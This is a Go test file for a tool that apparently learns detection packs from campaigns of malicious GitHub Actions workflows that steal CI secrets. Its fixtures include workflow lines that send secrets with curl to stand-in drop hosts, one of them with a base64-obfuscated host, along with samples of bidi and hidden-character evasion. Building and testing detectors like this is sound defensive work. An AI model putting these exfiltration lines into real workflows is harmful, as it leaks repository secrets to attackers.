package family

import (
	"errors"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"pentimento/internal/campaign"
	"pentimento/internal/workflow"
)

func learnt(t *testing.T, proposals []Proposal, texts ...Text) campaign.Pack {
	t.Helper()
	at := time.Date(2025, 9, 9, 3, 19, 40, 0, time.UTC)
	f := Stored{ID: "fam-0123456789abcdef", Habits: Habits{Spells: []Spell{{at, at.Add(time.Minute)}}}, Proposals: proposals}
	body, err := Learn("new-wave", f, texts, nil)
	if err != nil {
		t.Fatal(err)
	}
	p, err := campaign.Parse("new-wave.yaml", body)
	if err != nil {
		t.Fatalf("%v\n%s", err, body)
	}
	return p
}

func TestLearn(t *testing.T) {
	const host = "carte-lune.example.org" // may belong to somebody, so it must not stand in a sample
	text := stealer("Code Quality", "quality-gate", "https://"+host, "VICTIMS_OWN_TOKEN", "OTHER_TOKEN")
	p := learnt(t, []Proposal{
		{Trait: Trait{Host, host}, Confidence: "high", Evidence: []string{"blob-1"}},
		{Trait: Trait{Host, "api.example.net"}, Confidence: "low", Everyday: true},
		{Trait: Trait{Path, ".github/workflows/code_quality_gate.yml"}, Confidence: "high"},
		{Trait: Trait{WorkflowName, "Code Quality"}, Confidence: "low", Everyday: true},
		{Trait: Trait{JobID, "quality-gate"}, Confidence: "low"},
		{Trait: Trait{Message, `Add "quality" gate: #1`}, Role: "plant", Confidence: "high"},
		{Trait: Trait{Branch, "add-gate-*"}, Confidence: "medium"},
		{Trait: Trait{Author, "bot@mail.example.net"}, Confidence: "medium"},
		{Trait: Trait{JobID, "hidden\u202e"}, Confidence: "high"},
		{Trait: Trait{Stamp, "<!-- triggered at * -->\nname: other"}, Confidence: "high"},
	}, Text{Blob: blobOf(text), Paths: []string{".github/workflows/code_quality_gate.yml"}, Found: true, Body: []byte(text)})
	in := p.Indicators
	if len(in.Hosts) != 1 || !p.KnowsHost(host) || len(in.Paths) != 1 || len(in.JobIDs) != 1 || len(in.Everyday) != 2 || !p.KnowsBranch("add-gate-17") ||
		!p.KnowsAuthor("", "bot@mail.example.net") || p.MessageRole(`Add "quality" gate: #1`) != "plant" {
		t.Errorf("indicators: %+v", in)
	}
	if len(p.Waves) != 1 || !p.Waves[0].Contains(time.Date(2025, 9, 9, 3, 20, 0, 0, time.UTC)) {
		t.Errorf("waves: %+v", p.Waves)
	}
	if len(p.Positives) != 1 || strings.Contains(p.Positives[0].Text, host) || strings.Contains(p.Positives[0].Text, "VICTIMS_OWN_TOKEN") ||
		!strings.Contains(p.Positives[0].Text, campaign.ListedHost) {
		t.Errorf("positives: %+v", p.Positives)
	}
	next := strings.ReplaceAll(text, host, "198.51.100.2")
	if got := p.Match([]string{".github/workflows/code_quality_gate.yml"}, workflow.Parse([]byte(next)), []byte(next)); len(got) == 0 {
		t.Error("the learned pack does not know the family's next wave")
	}
}

func TestNothingToLearn(t *testing.T) {
	text := uploader(1)
	_, err := Learn("x", Stored{ID: "fam-0123456789abcdef"}, []Text{{Blob: blobOf(text), Paths: []string{".github/workflows/ci.yml"}, Body: []byte(text)}}, nil)
	if !errors.Is(err, ErrNothingToLearn) {
		t.Errorf("%v", err)
	}
}

func TestAbstractRefusesWhatItCannotClean(t *testing.T) {
	all := func(string) bool { return true }
	for name, text := range map[string]string{
		"a host in pieces": "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          H=drop\n          curl -d ${{ secrets.A }} https://$H.example.org\n",
		"an encoded host": "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n" +
			"      - run: curl -d ${{ secrets.A }} $(echo aHR0cHM6Ly9kcm9wLmV4YW1wbGUub3Jn | base64 -d)\n",
		"no text": "on: push\x00",
		"bidi":    "on: push # \u202e\n",
	} {
		if got, ok := abstract([]byte(text), all); ok && (strings.Contains(got, "example.org") || !strings.Contains(text, "on: push\njobs")) {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// TestLearnedPackHolds: whatever an attacker wrote, what is learned of it is a valid pack or an error, never a broken file.
func TestLearnedPackHolds(t *testing.T) {
	kinds := []Kind{Host, URLPart, Path, WorkflowName, JobID, Artifact, RunnerLabel, Message, Author, Branch, Stamp}
	rapid.Check(t, func(t *rapid.T) {
		proposals := []Proposal{{Trait: Trait{Host, "drop.example.org"}, Confidence: "high"}}
		seen := map[Trait]bool{}
		for range rapid.IntRange(0, 4).Draw(t, "proposals") {
			x := Trait{rapid.SampledFrom(kinds).Draw(t, "kind"), rapid.OneOf(rapid.String(), rapid.StringMatching(`[-"'#:{}\[\]*?\\ a-z.@/|>%&!]{0,20}`)).Draw(t, "value")}
			if !seen[x] {
				seen[x] = true
				proposals = append(proposals, Proposal{Trait: x, Role: "plant", Confidence: "high", Everyday: rapid.Bool().Draw(t, "everyday")})
			}
		}
		text := stealer("S", "j", "https://drop.example.org", "NPM_TOKEN")
		f := Stored{ID: "fam-0123456789abcdef", Proposals: proposals}
		if _, err := Learn("x", f, []Text{{Paths: []string{".github/workflows/s.yml"}, Body: []byte(text)}}, nil); err != nil {
			t.Fatal(err)
		}
	})
}

// TestLearnTakesNothingTooWide: patterns that an attacker writes as a name are names, and what may be the victim's own is left to the reader.
func TestLearnTakesNothingTooWide(t *testing.T) {
	text := stealer("S", "j", "https://drop.example.org", "NPM_TOKEN")
	p := learnt(t, []Proposal{
		{Trait: Trait{Host, "drop.example.org"}, Confidence: "high"},
		{Trait: Trait{Author, "*@*"}, Confidence: "high"},
		{Trait: Trait{Author, "17+sweep[bot]@mail.example.net"}, Confidence: "high"},
		{Trait: Trait{RunnerLabel, "acme-gpu"}, Confidence: "low"},
		{Trait: Trait{Message, "Mend the lamp\nhosts: [other]"}, Role: "plant", Confidence: "low"},
		{Trait: Trait{URLPart, "/deploy/lantern"}, Confidence: "low"},
		{Trait: Trait{Stamp, "scan \U000e0041\U000e0100 at *"}, Confidence: "high"},
	}, Text{Paths: []string{".github/workflows/s.yml"}, Found: true, Body: []byte(text)})
	if in := p.Indicators; len(in.RunnerLabels)+len(in.Messages)+len(in.URLParts) > 0 {
		t.Errorf("%+v", in)
	}
	if p.KnowsAuthor("", "anybody@mail.example.net") || !p.KnowsAuthor("", "17+sweep[bot]@mail.example.net") {
		t.Errorf("authors: %q", p.Indicators.Authors)
	}
	if got := quoted("scan \U000e0041\u202e\u3164"); got != `"scan \U000e0041\u202e\u3164"` {
		t.Errorf("a reader does not see %s", got)
	}
}

// TestLearnReadsAnyLayout: a file that begins with blanks, holds tabs or ends its lines as Windows does makes a positive as well.
func TestLearnReadsAnyLayout(t *testing.T) {
	text := stealer("S", "j", "https://drop.example.org", "NPM_TOKEN")
	for name, body := range map[string]string{
		"blank lines and an indented comment": "\n  # scan\n" + text,
		"Windows":                             strings.ReplaceAll(text, "\n", "\r\n"),
		"tabs":                                strings.Replace(text, "          curl -s", "          \tcurl\t-s", 1),
	} {
		p := learnt(t, []Proposal{{Trait: Trait{Host, "drop.example.org"}, Confidence: "high"}},
			Text{Paths: []string{".github/workflows/s.yml"}, Found: true, Body: []byte(body)})
		if len(p.Positives) != 1 || p.Positives[0].Path != ".github/workflows/s.yml" {
			t.Errorf("%s: %+v", name, p.Positives)
		}
	}
}
